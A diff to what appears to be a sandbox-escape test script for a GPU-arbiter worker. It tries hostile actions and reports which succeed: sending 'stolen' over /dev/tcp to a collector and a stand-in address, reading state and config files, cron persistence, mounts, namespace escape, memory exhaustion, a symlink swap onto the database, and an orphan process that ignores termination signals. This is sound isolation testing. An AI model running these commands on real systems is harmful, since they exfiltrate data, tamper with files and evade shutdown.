@@ -5,7 +5,7 @@ try() { local what=$1; shift; if "$@" 2>/dev/null; then echo "could $what"; else
 tcp() { timeout 3 bash -c "echo stolen > /dev/tcp/${1%:*}/${1##*:}"; }
 
 try "read the store" head -c 1 "$STATE/gpuarbiter.db"
-try "list the state" ls "$STATE"
+try "list the state" bash -c '[ "$(ls "$0")" != workers ] || [ "$(ls "$0"/workers/*/* | wc -l)" -gt 9 ]' "$STATE" # its own folder is below
 try "read the configuration" cat "$STATE/../config.yaml"
 try "reach a collector" tcp "$COLLECTOR"
 try "reach the network" tcp 192.0.2.1:443
@@ -17,7 +17,7 @@ try "leave a job" test -e /etc/cron.d/hostile
 try "mount" mount -t tmpfs none /mnt
 try "become root of another place" unshare --mount true
 try "write its own package" bash -c 'echo x >> /opt/hostile-was-here'
-try "fill the memory" head -c 1G /dev/zero > /hive/full
+try "fill the memory" bash -c 'head -c 1G /dev/zero > /hive/full'
 rm -f /hive/full
 rm -f "$GPUARBITER_STATS" && ln -s "$STATE/gpuarbiter.db" "$GPUARBITER_STATS"
 env -i setsid bash -c 'trap "" TERM HUP INT; exec -a hostile-orphan sleep 3600' &
